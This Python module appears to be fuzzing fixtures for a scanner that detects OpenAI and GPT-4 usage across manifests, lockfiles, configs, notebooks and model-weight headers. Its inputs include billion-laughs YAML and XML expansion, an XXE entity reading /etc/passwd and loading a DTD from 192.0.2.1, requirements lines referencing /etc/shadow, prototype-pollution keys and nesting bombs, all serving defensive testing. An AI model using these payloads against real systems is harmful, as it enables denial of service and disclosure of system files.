"""Hostile data: manifests, lockfiles, configuration, notebooks, weights."""

from __future__ import annotations

import json
import struct

from trees import Box, case, plain

MODEL = '"model": "gpt-4"'

# --- JSON --------------------------------------------------------------------------------------------------------------

plain("json_arrays", "a.json", '{"model": "gpt-4", "x": ' + "[" * 100_000 + "]" * 100_000 + "}")
plain("json_arrays_open", "a.json", '{"model": "gpt-4", "x": ' + "[" * 500_000)
plain("json_objects", "a.json", '{"model":' * 100_000 + '"gpt-4"' + "}" * 100_000)
plain("json_duplicate_keys", "a.json", "{" + ", ".join([MODEL] * 30_000) + "}")
plain("json_numbers", "a.json", "{" + MODEL + ', "a": ' + "9" * 500_000 + ', "b": 1e999999999, "c": -0.' + "0" * 100_000 + "1}")
plain("json_not_numbers", "a.json", "{" + MODEL + ', "a": NaN, "b": Infinity, "c": -Infinity, "d": 0x1F, "e": +1, "f": .5}')
plain("json_garbage_after", "a.json", "{" + MODEL + "}" + "garbage" * 10_000)
plain("json_comments", "a.json", "/*" * 10_000 + "// x\n{" + MODEL + ", // gpt-4\n}")
plain("json_long_string", "a.json", '{"openai": "' + "gpt-4 " * 300_000 + '"}')
plain("json_long_key", "a.json", '{"' + "openai.model." * 100_000 + '": "gpt-4"}')
plain(
    "json_escapes",
    "a.json",
    '{"model": "' + "\\u0067" * 100_000 + '", "x": "\\',
)
plain("json_open_string", "a.json", '{"model": "gpt-4' + "\n" * 100_000)
plain("json_only_a_string", "package.json", '"openai"')
plain("json_prototype", "a.json", '{"__proto__": {"model": "gpt-4"}, "constructor": {"prototype": {"openai": 1}}}')

ODD_VALUES: list[object] = [
    None,
    1,
    1.5,
    True,
    "x",
    [],
    ["openai"],
    [["openai"]],
    {},
    {"openai": None},
    {"openai": []},
    {"openai": {"x": {}}},
    {"": ""},
]


@case()
def manifests_with_wrong_types(box: Box) -> None:
    for number, value in enumerate(ODD_VALUES):
        keys = "name version dependencies devDependencies peerDependencies optionalDependencies workspaces scripts engines packageManager overrides bin".split()
        box.put(f"n{number}/package.json", json.dumps(dict.fromkeys(keys, value)))
        box.put(
            f"l{number}/package-lock.json",
            json.dumps({"openai": 1, "lockfileVersion": value, "packages": value, "dependencies": value}),
        )
        box.put(
            f"m{number}/package-lock.json",
            json.dumps({"packages": {"": value, "node_modules/openai": value}, "dependencies": {"openai": value}}),
        )
        box.put(f"c{number}/composer.json", json.dumps({"require": value, "require-dev": value, "name": value, "openai": 1}))
        box.put(f"c{number}/composer.lock", json.dumps({"packages": value, "packages-dev": [value], "openai": 1}))
        box.put(f"p{number}/Pipfile.lock", json.dumps({"default": value, "develop": {"openai": value}}))
        box.put(f"d{number}/deno.json", json.dumps({"imports": value, "tasks": value, "openai": 1}))
        box.put(f"g{number}/packages.lock.json", json.dumps({"dependencies": {"net8.0": value, "x": {"OpenAI": value}}}))
        box.put(f"b{number}/a.ipynb", json.dumps({"cells": value, "openai": 1}))
        box.put(
            f"b{number}/b.ipynb",
            json.dumps(
                {
                    "cells": [{"cell_type": value, "source": value, "outputs": value}, {"cell_type": "code", "source": value}],
                    "x": "openai",
                }
            ),
        )
        box.put(f"t{number}/config.json", json.dumps({"model": value, "model_list": value, "base_url": value, "openai": value}))


@case()
def tables_with_wrong_types(box: Box) -> None:
    for number, value in enumerate(
        (
            "1",
            "true",
            '"x"',
            "[]",
            "[1]",
            "[[]]",
            "{}",
            "{openai = 1}",
            "1979-05-27",
            '[{name = "openai"}]',
            "[{name = 1}]",
            "nan",
        )
    ):
        box.put(
            f"a{number}/pyproject.toml",
            f"x = 'openai'\nproject = {value}\ntool = {value}\nbuild-system = {value}\ndependency-groups = {value}\n",
        )
        box.put(
            f"b{number}/pyproject.toml",
            f"[project]\nname = {value}\ndependencies = {value}\noptional-dependencies = {value}\n[tool.poetry]\ndependencies = {value}\ngroup = {value}\n[tool.uv]\nsources = {value}\nworkspace = {value}\n# openai\n",
        )
        box.put(f"c{number}/Cargo.toml", f"package = {value}\ndependencies = {value}\nworkspace = {value}\n# openai\n")
        box.put(f"d{number}/uv.lock", f"version = {value}\npackage = {value}\n# openai\n")
        box.put(f"e{number}/Pipfile", f"packages = {value}\ndev-packages = {value}\n# openai\n")
        box.put(f"f{number}/gradle/libs.versions.toml", f"versions = {value}\nlibraries = {value}\nplugins = {value}\n# openai\n")
        box.put(
            f"g{number}/poetry.lock",
            f"[[package]]\nname = {value}\nversion = {value}\n[package.dependencies]\nopenai = {value}\n",
        )


@case()
def lockfile_bombs(box: Box) -> None:
    box.put(
        "package-lock.json", json.dumps({"packages": {f"node_modules/openai{n}": {"version": "1.0.0"} for n in range(60_000)}})
    )
    box.put("yarn.lock", "openai@" + ", openai@".join(f"^{n}" for n in range(20_000)) + ":\n" + '  version "1"\n' * 50_000)
    box.put(
        "pnpm-lock.yaml", "packages:\n" + "".join(f"  /openai/{n}:\n    resolution: {{integrity: x}}\n" for n in range(40_000))
    )
    box.put("uv.lock", '[[package]]\nname = "openai"\nversion = "1"\ndependencies = [\n' + '  { name = "openai" },\n' * 60_000)
    box.put("poetry.lock", "[[package]]\n" * 100_000 + 'name = "openai"\n')
    box.put("Cargo.lock", '[[package]]\nname = "async-openai"\n' * 50_000)
    box.put("Gemfile.lock", "GEM\n  specs:\n" + "    ruby-openai (1.0)\n" * 60_000 + " " * 100_000)
    box.put("composer.lock", '{"packages": [' + '{"name": "openai-php/client", "version": "1"},' * 40_000)


plain(
    "notebook_cells",
    "a.ipynb",
    json.dumps({"cells": [{"cell_type": "code", "source": ["import openai\n"]}] * 8_000, "nbformat": 4}),
)
plain(
    "notebook_deep",
    "a.ipynb",
    '{"cells": [{"cell_type": "code", "source": "import openai", "outputs": ' + "[" * 50_000 + "]" * 50_000 + "}]}",
)
plain(
    "notebook_magics",
    "a.ipynb",
    json.dumps(
        {"cells": [{"cell_type": "code", "source": "%%bash\nexport OPENAI_API_KEY=x\n%" + "!" * 50_000 + "pip install openai"}]}
    ),
)
plain("notebook_cut", "a.ipynb", '{"cells": [{"cell_type": "code", "source": ["import openai\\n", "m = \\"gpt-4')

# --- YAML --------------------------------------------------------------------------------------------------------------

LAUGHS = (
    "a0: &a0 [openai, gpt-4]\n"
    + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))
    + "model: *a11\n"
)
plain("yaml_laughs", "a.yaml", LAUGHS)
plain(
    "yaml_merge_laughs",
    "a.yaml",
    "b0: &b0 {model: gpt-4}\n" + "".join(f"b{n}: &b{n} {{<<: [{', '.join([f'*b{n - 1}'] * 9)}]}}\n" for n in range(1, 12)),
)
plain("yaml_circle", "a.yaml", "a: &a\n  model: gpt-4\n  <<: *a\n  self: *a\nb: &b [*b, *a]\n")
plain("yaml_flow", "a.yaml", "model: gpt-4\nx: " + "[" * 50_000 + "]" * 50_000 + "\n")
plain("yaml_flow_open", "a.yaml", "model: gpt-4\nx: " + "{a: " * 50_000)
plain("yaml_blocks", "a.yaml", "model: gpt-4\n" + "".join(" " * depth + "a:\n" for depth in range(1_500)))
plain("yaml_dashes", "a.yaml", "model: gpt-4\nx:\n" + "- " * 50_000 + "gpt-4\n")
plain(
    "yaml_values",
    "a.yaml",
    f"model: gpt-4\na: 2024-13-45\nb: {'9' * 6_000}\nc: 0x{'f' * 6_000}\nd: 1:{'59:' * 2_000}1\ne: .inf\nf: !!int x\ng: !!timestamp y\nh: !!binary '*'\n",
)
plain(
    "yaml_keys",
    "a.yaml",
    "? [a, {b: c}]\n: openai\n? {x: y}\n: gpt-4\n? !!null null\n: 1\n? |\n  long\n: model\n[model]: gpt-4\n",
)
plain("yaml_documents", "a.yaml", "---\nmodel: gpt-4\n" * 20_000)
plain("yaml_anchors", "a.yaml", "".join(f"k{n}: &n{n} gpt-4\n" for n in range(20_000)))
plain("yaml_tabs", "a.yaml", "model:\tgpt-4\n\tx: openai\n  y:\n\t- z\n")
plain(
    "yaml_tags",
    "a.yaml",
    "model: gpt-4\nx: !" + "<tag:x,2000:" + "y" * 50_000 + "> z\n%TAG ! tag:\n%YAML 9.9\n---\na: !!set {openai}\n",
)
plain("yaml_templates", "values.yaml", 'model: {{ .Values.x | default "gpt-4" }}\n{{- range }}\n  - openai\n{{ end }}\n' * 2_000)
plain("yaml_quotes", "a.yaml", 'model: "gpt-4' + '\\"' * 50_000)
plain("yaml_scalars", "a.yaml", "model: |" + "9" * 30_000 + "\n  gpt-4\nx: >\n" + "  openai\n" * 50_000)
plain("yaml_comment_flood", "a.yaml", "# openai gpt-4\n" * 100_000 + "model: gpt-4\n")
plain(
    "compose_wrong_types",
    "compose.yaml",
    "services: [a, 1, null]\nx:\n  image: [openai]\n  environment: 5\ny: {environment: [1, {a: b}, OPENAI_API_KEY], image: {x: y}}\n",
)
plain(
    "workflow_wrong_types",
    ".github/workflows/a.yml",
    "on: null\njobs: 5\nenv: [OPENAI_API_KEY]\nx: {steps: [1, null, {uses: [openai]}, {run: {a: openai}, with: 7}]}\n",
)
plain(
    "environment_wrong_types",
    "environment.yml",
    "dependencies: {openai: [1]}\nname: [x]\nchannels: 5\nx:\n - pip: openai\n - {pip: {openai: 1}}\n",
)

# --- TOML --------------------------------------------------------------------------------------------------------------

plain("toml_long_key", "a.toml", "model = 'gpt-4'\n" + ".".join(["a"] * 20_000) + " = 'openai'\n")
plain("toml_long_table", "pyproject.toml", "[" + ".".join(["a"] * 20_000) + "]\nmodel = 'gpt-4'\n")
plain("toml_arrays", "a.toml", "model = 'gpt-4'\nx = " + "[" * 50_000 + "]" * 50_000 + "\n")
plain("toml_inline", "a.toml", "model = 'gpt-4'\nx = " + "{a = " * 20_000 + "1" + "}" * 20_000 + "\n")
plain("toml_tables", "a.toml", "".join(f"[[t]]\nmodel = 'gpt-4-{n}'\n" for n in range(20_000)))
plain("toml_values", "a.toml", f"model = 'gpt-4'\na = 2024-13-45\nb = {'9' * 6_000}\nc = 1e999999\nd = 25:61:61\ne = 0o9\n")
plain("toml_open_string", "a.toml", "model = 'gpt-4'\nx = '''" + "openai\n" * 50_000)
plain(
    "toml_duplicates",
    "pyproject.toml",
    "[project]\nname = 'x'\n[project]\ndependencies = ['openai']\ndependencies = ['openai']\n",
)

# --- XML ---------------------------------------------------------------------------------------------------------------

ENTITIES = '<!DOCTYPE x [<!ENTITY a0 "openai">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)) + "]>"
plain(
    "xml_laughs",
    "pom.xml",
    f'<?xml version="1.0"?>{ENTITIES}<project><dependencies><dependency><artifactId>&a11;</artifactId></dependency></dependencies></project>',
)
plain(
    "xml_outside",
    "pom.xml",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]><project><name>openai &e;</name></project>',
)
plain("xml_depth", "pom.xml", "<project>" + "<a>" * 100_000 + "openai" + "</a>" * 100_000 + "</project>")
plain("xml_open", "app.csproj", "<Project>" + '<PackageReference Include="OpenAI" ' * 30_000)
plain(
    "xml_encodings",
    "app.csproj",
    '<?xml version="1.0" encoding="utf-7"?><Project><PackageReference Include="OpenAI" Version="+AGE-"/></Project>',
)
plain("xml_attributes", "pom.xml", "<project " + " ".join(f'a{n}="openai"' for n in range(50_000)) + "/>")
plain(
    "xml_properties",
    "pom.xml",
    "<project><properties><a>${b}</a><b>${a}</b>"
    + "".join(f"<p{n}>${{p{n - 1}}}${{p{n - 1}}}</p{n}>" for n in range(1, 80))
    + "</properties><dependencies><dependency><groupId>com.openai</groupId><artifactId>openai-java</artifactId><version>${p79}${a}</version></dependency></dependencies></project>",
)
plain("xml_cdata", "app.config", "<configuration><![CDATA[" + "openai]]" * 50_000)

# --- lines -------------------------------------------------------------------------------------------------------------

plain("dockerfile_lines", "Dockerfile", "FROM ollama/ollama\nRUN pip install openai \\\n" * 20_000)
plain("dockerfile_heredoc", "Dockerfile", "FROM x\nRUN <<EOF\n" + "pip install openai\n" * 20_000)
plain(
    "dockerfile_arguments",
    "Dockerfile",
    'ARG A=$A$A\nARG B=${A:-${B:-${A}}}\nENV OPENAI_MODEL=${B} X="' + "\\" * 50_001 + "\nFROM ${A}${B}\n",
)
plain("env_open_quote", ".env", "OPENAI_API_KEY='" + "x\n" * 100_000)
plain("env_nested", ".env", "OPENAI_MODEL=" + "${A:-" * 20_000 + "gpt-4" + "}" * 20_000 + "\n")
plain("env_many", ".env", "".join(f"OPENAI_MODEL_{n}=gpt-4\n" for n in range(50_000)))
plain("properties_lines", "a.properties", "spring.ai.openai.chat.options.model=gpt-4\\\n" * 40_000)
plain("ini_sections", "a.ini", "[a]\nmodel = gpt-4\n%(x)s = %(x)s\n" * 20_000 + "[" * 50_000)
plain(
    "setup_cfg_garbage",
    "setup.cfg",
    "[metadata]\nname = x\n[options]\ninstall_requires =\n" + "    openai\n" * 20_000 + "[options\n=\n:\n",
)
plain("hcl_blocks", "a.tf", 'resource "x" "y" {\n' * 20_000 + 'model = "gpt-4"\n' + "}\n" * 10_000)
plain("hcl_strings", "a.tf", 'x = "' + "${" * 20_000 + "openai" + "}" * 20_000 + '"\ny = <<EOT\n' + "gpt-4\n" * 20_000)
plain("bicep_blocks", "a.bicep", "resource x 'Microsoft.CognitiveServices/accounts@2023' = " + "{" * 50_000 + " name: 'gpt-4'\n")
plain(
    "gradle_blocks",
    "build.gradle",
    "dependencies " + "{" * 50_000 + " implementation 'com.openai:openai-java:1'\n" + "//" * 10_000,
)
plain(
    "requirements_lines",
    "requirements.txt",
    "openai"
    + "[a]" * 20_000
    + "==1; "
    + "(" * 20_000
    + "\n-r requirements.txt\n-r /etc/passwd\n-c ../../../etc/shadow\n-e git+ssh://x\nopenai @ file:///etc/passwd\nopenai \\\n"
    * 3,
)
plain(
    "requirements_markers",
    "requirements.txt",
    "openai>=1; " + " and ".join(["python_version > '3'"] * 20_000) + "\nopenai" + ">=1," * 50_000 + "\n",
)
plain("go_mod_garbage", "go.mod", "module x\nrequire (\n" + "\tgithub.com/sashabaranov/go-openai v1\n" * 20_000 + "replace (((\n")
plain("markdown_fences", "README.md", "```" * 50_000 + "\nopenai gpt-4\n" + "[a](" * 50_000)
plain("modelfile_garbage", "Modelfile", 'FROM llama3\nSYSTEM """' + "gpt-4\n" * 20_000 + "FROM " * 20_000)

# --- weights -----------------------------------------------------------------------------------------------------------


@case()
def safetensors_headers(box: Box) -> None:
    for number, length in enumerate((0, 1, 7, 2**31, 2**63, 2**64 - 1)):
        box.put(f"a{number}.safetensors", struct.pack("<Q", length) + b'{"__metadata__": {"license": "x"}}')
    deep = b'{"__metadata__": ' + b"[" * 90_000 + b"]" * 90_000 + b"}"
    box.put("deep.safetensors", struct.pack("<Q", len(deep)) + deep)
    odd = json.dumps({"__metadata__": [1, {"license": None}], "x": 5}).encode()
    box.put("odd.safetensors", struct.pack("<Q", len(odd)) + odd)
    box.put("bytes.safetensors", struct.pack("<Q", 100) + b"\xff" * 100)


@case()
def gguf_headers(box: Box) -> None:
    def text(value: bytes) -> bytes:
        return struct.pack("<Q", len(value)) + value

    head = b"GGUF" + struct.pack("<I", 3)
    box.put(
        "counts.gguf",
        head + struct.pack("<QQ", 2**64 - 1, 2**64 - 1) + text(b"general.license") + struct.pack("<I", 8) + text(b"mit"),
    )
    box.put("strings.gguf", head + struct.pack("<QQ", 0, 5) + struct.pack("<Q", 2**63) + b"general.name")
    box.put("arrays.gguf", head + struct.pack("<QQ", 0, 1) + text(b"x") + struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 5_000)
    box.put("long.gguf", head + struct.pack("<QQ", 0, 1) + text(b"x") + struct.pack("<IIQ", 9, 0, 2**62))
    box.put("types.gguf", head + struct.pack("<QQ", 0, 3) + text(b"general.license") + struct.pack("<I", 99) + b"\xff" * 50)
    box.put("short.gguf", b"GG")
    box.put("old.gguf", b"GGUF" + struct.pack("<I", 4_000_000_000) + b"\0" * 64)


# --- valid files, cut ----------------------------------------------------------------------------------------------------


@case()
def cut_manifests(box: Box) -> None:
    whole = {
        "pyproject.toml": '[project]\nname = "x"\ndependencies = ["openai>=1.0", "x; python_version > \'3\'"]\n[tool.poetry.dependencies]\nopenai = {version = "^1"}\n',
        "package.json": '{"name": "x", "dependencies": {"openai": "^4.0.0", "@ai-sdk/openai": "1.0.0"}}',
        "pom.xml": "<project><dependencies><dependency><groupId>com.openai</groupId><artifactId>openai-java</artifactId></dependency></dependencies></project>",
        "compose.yaml": "services:\n  llm:\n    image: ollama/ollama:0.5\n    environment:\n      - OPENAI_MODEL=gpt-4\n",
        "app.py": 'from openai import OpenAI\nc = OpenAI(base_url="https://api.groq.com/openai/v1")\nc.chat.completions.create(model="gpt-4")\n',
        "app.ts": 'import OpenAI from "openai";\nconst m = `gpt-4`;\nnew OpenAI().chat.completions.create({ model: m });\n',
        "main.tf": 'resource "azurerm_cognitive_deployment" "x" {\n  model {\n    name = "gpt-4"\n  }\n}\n',
        "Dockerfile": 'FROM ollama/ollama:latest AS x\nENV OPENAI_MODEL="gpt-4" \\\n    A=b\nRUN pip install openai==1.0\n',
    }
    for name, content in whole.items():
        for cut in range(0, len(content), 7):
            box.put(f"{name.replace('.', '-')}-{cut}/{name}", content[:cut])
